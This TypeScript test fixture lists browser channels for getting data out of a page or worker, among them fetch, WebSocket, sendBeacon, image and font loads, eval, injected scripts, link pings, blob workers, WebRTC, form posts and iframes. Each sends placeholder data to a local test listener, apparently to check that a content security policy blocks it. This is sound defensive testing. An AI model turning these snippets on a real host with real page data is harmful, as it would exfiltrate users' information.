/*
 * Ways in which code can get data out of a page. Each runs inside the browser (so it may use nothing from this file) and gets the port of a
 * listening host. It throws when the browser refuses on the spot; refusals that come later arrive as a securitypolicyviolation event.
 */
export type WayOut = ((port: number) => unknown) | string

/** Ways open to a page and to a worker. */
export const WAYS_FROM_ANYWHERE: Readonly<Record<string, WayOut>> = {
  fetch: port => fetch(`http://127.0.0.1:${port}/fetch`, { mode: 'no-cors', method: 'POST', body: 'data' }),
  'fetch that outlives the page': port =>
    fetch(`http://127.0.0.1:${port}/keep`, { mode: 'no-cors', method: 'POST', body: 'data', keepalive: true }),
  XMLHttpRequest: port =>
    new Promise((resolve, reject) => {
      const request = new XMLHttpRequest()
      request.onload = resolve
      request.onerror = () => reject(new Error('failed'))
      request.open('POST', `http://127.0.0.1:${port}/xhr`)
      request.send('data')
    }),
  WebSocket: port =>
    new Promise((resolve, reject) => {
      const socket = new WebSocket(`ws://127.0.0.1:${port}/socket`)
      socket.onopen = resolve
      socket.onerror = () => reject(new Error('failed'))
    }),
  EventSource: port =>
    new Promise((resolve, reject) => {
      const source = new EventSource(`http://127.0.0.1:${port}/events`)
      source.onopen = resolve
      source.onerror = () => reject(new Error('failed'))
    }),
  // As text: the test runner rewrites import() in code.
  'dynamic import': "port => import('http://127.0.0.1:' + port + '/module.js?data')",
}

/** Ways only a page has. */
export const WAYS_FROM_PAGES: Readonly<Record<string, WayOut>> = {
  sendBeacon: port => {
    navigator.sendBeacon(`http://127.0.0.1:${port}/beacon`, 'data')
  },
  image: port => {
    new Image().src = `http://127.0.0.1:${port}/image.png?data`
  },
  'style sheet': port => {
    const link = document.createElement('link')
    link.rel = 'stylesheet'
    link.href = `http://127.0.0.1:${port}/style.css?data`
    document.head.append(link)
  },
  font: port => new FontFace('Leak', `url(http://127.0.0.1:${port}/font.woff2?data)`).load(),
  video: port => {
    const video = document.createElement('video')
    video.src = `http://127.0.0.1:${port}/video.mp4?data`
    document.body.append(video)
  },
  object: port => {
    const object = document.createElement('object')
    object.data = `http://127.0.0.1:${port}/object?data`
    document.body.append(object)
  },
  prefetch: port => {
    const link = document.createElement('link')
    link.rel = 'prefetch'
    link.href = `http://127.0.0.1:${port}/prefetch?data`
    document.head.append(link)
  },
  'script element': port => {
    const script = document.createElement('script')
    script.src = `http://127.0.0.1:${port}/script.js?data`
    document.head.append(script)
  },
  'inline script': port => {
    const script = document.createElement('script')
    script.textContent = `new Image().src = 'http://127.0.0.1:${port}/inline?data'`
    document.head.append(script)
  },
  'script in markup': port => {
    document.body.innerHTML = `<img src="data:," onerror="fetch('http://127.0.0.1:${port}/markup?data')">`
  },
  eval: port => {
    // biome-ignore lint/security/noGlobalEval: that it is refused is what is tested
    eval(`new Image().src = 'http://127.0.0.1:${port}/eval?data'`)
  },
  'ping of a link': port => {
    const link = document.createElement('a')
    link.href = '#here'
    link.ping = `http://127.0.0.1:${port}/ping`
    document.body.append(link)
    link.click()
  },
  'worker from a text': port => {
    const code = `fetch('http://127.0.0.1:${port}/worker', { mode: 'no-cors' })`
    new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })))
  },
  WebRTC: async port => {
    const connection = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] })
    connection.createDataChannel('leak')
    await connection.setLocalDescription(await connection.createOffer())
  },
}

/** Ways only a worker has. */
export const WAYS_FROM_WORKERS: Readonly<Record<string, WayOut>> = {
  importScripts: port => {
    const scope = globalThis as unknown as { importScripts(address: string): void }
    scope.importScripts(`http://127.0.0.1:${port}/imported.js?data`)
  },
  'worker of the worker': port => {
    const code = `fetch('http://127.0.0.1:${port}/nested', { mode: 'no-cors' })`
    new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })))
  },
}

/** Ways by going elsewhere. Chromium opens a connection for these before it asks the policy, and drops it unused when refused. */
export const WAYS_BY_NAVIGATION: Readonly<Record<string, WayOut>> = {
  'form post': port => {
    const form = document.createElement('form')
    form.method = 'post'
    form.action = `http://127.0.0.1:${port}/form?data`
    document.body.append(form)
    form.submit()
  },
  frame: port => {
    const frame = document.createElement('iframe')
    frame.src = `http://127.0.0.1:${port}/frame?data`
    document.body.append(frame)
  },
}
